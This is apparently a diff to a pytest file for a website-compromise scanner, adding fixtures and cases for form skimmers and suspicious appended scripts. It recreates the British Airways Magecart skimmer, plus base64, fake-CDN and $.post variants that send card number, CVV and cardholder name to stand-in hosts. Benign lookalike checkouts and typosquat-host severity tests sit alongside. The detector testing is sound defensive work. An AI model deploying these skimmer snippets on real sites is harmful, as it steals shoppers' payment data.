@@ -212,6 +212,21 @@ KEITARO = (
     "se_referrer=' + encodeURIComponent(document.referrer) + '&default_keyword=' + "
     "encodeURIComponent(document.title) + '&frm=script\"></scr' + 'ipt>');</script>")
 APPENDED = '<script src="https://jqueryui-cdn-libs.test/ui.js"></script>'
+# British Airways' Magecart (RiskIQ's write-up): the payment form serialised on the pay
+# button's mouseup or touchend and posted by jQuery.ajax to a host of the attacker's;
+# the checkout's form (a booking site's, names made up) comes with it
+_PAY_FORM = (
+    "<form id='paymentForm' action='/booking/confirm' method='post'><input id='cardNumber' "
+    "name='cardNumber'><input id='cvv' name='cvv'><input id='cardholderName' name="
+    "'cardholderName'><button id='submitButton' type='button'>Pay now</button></form>"
+    "<div id='personPaying'>Ann Example</div>")
+SKIM_JQUERY_AJAX = (
+    _PAY_FORM + "<script>window.onload=function(){jQuery('#submitButton').bind('mouseup "
+    "touchend',function(a){var n={};jQuery('#paymentForm').serializeArray().map(function(a)"
+    "{n[a.name]=a.value});var e=document.getElementById('personPaying').innerHTML;n.person=e;"
+    "var t=JSON.stringify(n);setTimeout(function(){jQuery.ajax({type:'POST',async:!0,url:"
+    "'https://flightpay-gateway.test/gateway/app/dataprocessing/api/',data:t,dataType:"
+    "'application/json'})},500)})};</script>")
 
 FAMILIES: list[tuple[str, dict[str, str], tuple[str, Severity]]] = [
     ("ndsw / Parrot TDS, plain, wp_footer", {"footer": NDSW}, ("tds-loader", H)),
@@ -404,6 +419,12 @@ TWINS: list[tuple[str, dict[str, str]]] = [
         "<script>document.getElementById('contact').addEventListener('submit',function(e){e."
         "preventDefault();navigator.sendBeacon('https://formspree.io/f/xqkrvwpz',new FormData("
         "e.target));});</script>")}),
+    ("a contact form posted by jQuery to its forms backend", {"footer": (
+        "<form id='contact' action='https://forms.formcatch.example/f/xqkrvwpz' method='post'>"
+        "<input name='email'><textarea name='message'></textarea></form><script>jQuery("
+        "function($){$('#contact').on('submit',function(e){e.preventDefault();$.post('https:"
+        "//forms.formcatch.example/f/xqkrvwpz',$(this).serialize(),function(){$('#contact')."
+        "html('Thanks!');});});});</script>")}),
     ("analytics pasted after </html>", {"after": (
         "<script async src='https://www.googletagmanager.com/gtag/js?id=G-H4RB0URGZT'>"
         "</script><script defer src='https://static.cloudflareinsights.com/beacon.min.js'>"
@@ -635,6 +656,12 @@ LOOKALIKES: list[tuple[str, dict[str, str], str, Severity]] = [
     ("a news site's widget (windowsreport) after </html>", {"after": (
         '<script src="https://cdn.windowsreport.example/w.js" async></script>')},
      "appended-script", M),
+    ("a tour operator named after the river (amazon-tours) after </html>", {"after": (
+        '<script src="https://booking.amazon-tours.example/embed.js" async></script>')},
+     "appended-script", M),
+    ("a fan club's widget (paypal-fans, a brand beside a word of its own) after </html>", {
+        "after": '<script src="https://widget.paypal-fans.example/w.js" async></script>'},
+     "appended-script", M),
     ("a goggle shop's widget, a real word a letter from google, after </html>", {"after": (
         '<script src="https://shop.goggle.example/embed.js" async></script>')},
      "appended-script", M),
@@ -681,6 +708,15 @@ LOOKALIKES: list[tuple[str, dict[str, str], str, Severity]] = [
         "v1/tokens',{method:'POST',body:JSON.stringify({number:f.cardnumber.value,cvc:f.cvc."
         "value})}).then(function(r){return r.json();}).then(function(t){document."
         "getElementById('token').value=t.id;});});</script>")}, "form-skimmer", M),
+    ("a jQuery checkout posting card fields to its gateway by $.ajax, the answer read", {
+        "footer": _PAY_FORM + (
+            "<script>jQuery(function($){$('#submitButton').on('click',function(){$('input')."
+            "each(function(){$(this).removeClass('has-error');});$.ajax({type:'POST',url:'https:"
+            "//api.kartpay.example/v1/charge',contentType:'application/json',data:JSON."
+            "stringify({cardNumber:$('#cardNumber').val(),cvv:$('#cvv').val()}),success:function"
+            "(r){window.location=r.redirect;}});});});</script>")}, "form-skimmer", M),
+    ("British Airways' jQuery.ajax form, to a plain host: nothing else marks it", {
+        "footer": SKIM_JQUERY_AJAX}, "form-skimmer", M),
     ("a gift card balance check picking its form by a class", {"footer": (
         "<form class='gift-card-form'><input name='cardnumber'></form><script>document."
         "addEventListener('submit',function(e){var f=e.target.closest('.gift-card-form');if(!f)"
@@ -769,6 +805,24 @@ VARIANTS: list[tuple[str, dict[str, str], str]] = [
      "appended-script"),
     ("a script after </html> on a brand joined to CDN words in one word", {"after": (
         '<script src="https://stripecdn.test/v3/"></script>')}, "appended-script"),
+    ("British Airways' jQuery.ajax form, what it posts base64", {
+        "footer": SKIM_JQUERY_AJAX.replace("data:t,", "data:btoa(t),")}, "form-skimmer"),
+    ("British Airways' jQuery.ajax form, to a host dressed as jQuery's CDN", {
+        "footer": SKIM_JQUERY_AJAX.replace("flightpay-gateway.test", "jquery-cdn-static.test")},
+     "form-skimmer"),
+    ("a Ticketmaster-style $.post of every input jQuery picks", {"footer": _PAY_FORM + (
+        "<script>jQuery(function($){$('#submitButton').on('click',function(){var d={};$("
+        "'input').each(function(){d[$(this).attr('name')]=$(this).val();});if(d.cardNumber){"
+        "$.post('https://tix-analytics.test/collect',{d:JSON.stringify(d)});}});});</script>")},
+     "form-skimmer"),
+    ("$.ajax with its url first and method after, every form serialised", {"footer": (
+        "<script>$(document).on('mouseup touchend','#submitButton',function(){$.ajax({url:"
+        "'https://sales-reports.test/api',method:'POST',data:{f:$('form').serialize(),c:$("
+        "'#cardNumber').val()}});});</script>")}, "form-skimmer"),
+    ("a script after </html> on a brand beside sign-in words", {"after": (
+        '<script src="https://paypal-secure-login.test/w.js"></script>')}, "appended-script"),
+    ("a script after </html> on a brand beside a word, its digits for letters", {"after": (
+        '<script src="https://g00gle-fans.test/w.js"></script>')}, "appended-script"),
     ("a script after </html> on a host dressed as a CDN", {"after": (
         '<script src="https://static-cdn-libs.test/min.js"></script>')}, "appended-script"),
 ]
@@ -790,6 +844,23 @@ def test_a_brand_the_pages_own_name_bears_dresses_none_of_its_hosts(
     report = audit_listed(page, "https://windows-report.example/fix-update-error/")
     (found,) = [f for f in report.findings if f.kind == "appended-script"]
     assert found.severity is not H and "dressed" not in found.message
+
+
+@pytest.mark.parametrize(("src", "severity"), [
+    ("https://radiostats.example/t.js", M),  # the page's name as letters of another word
+    ("https://cdn.bestradiostats.example/t.js", M),
+    ("https://cdn.radio-static.example/app.js", L),  # as a word of it: the site's CDN
+    ("https://static.radiowave-cdn.example/app.js", M),
+])
+def test_only_the_pages_name_as_whole_words_makes_a_host_its_own(
+        src: str, severity: Severity, audit_listed: AuditListed) -> None:
+    """A radio station's page (radio.example) with a script after `</html>`: a host whose
+    name starts with the page's letters (`radiostats`) is another site, medium as any
+    paste; one bearing the name as a word (`radio-static`) is low, the site's CDN."""
+    report = audit_listed(wp_page(after=f'<script src="{src}"></script>'),
+                          "https://radio.example/schedule/")
+    (found,) = [f for f in report.findings if f.kind == "appended-script"]
+    assert found.severity is severity, found.message
 
 
 def test_a_how_to_inside_a_pinned_app_shell_is_no_overlay(audit_listed: AuditListed) -> None:
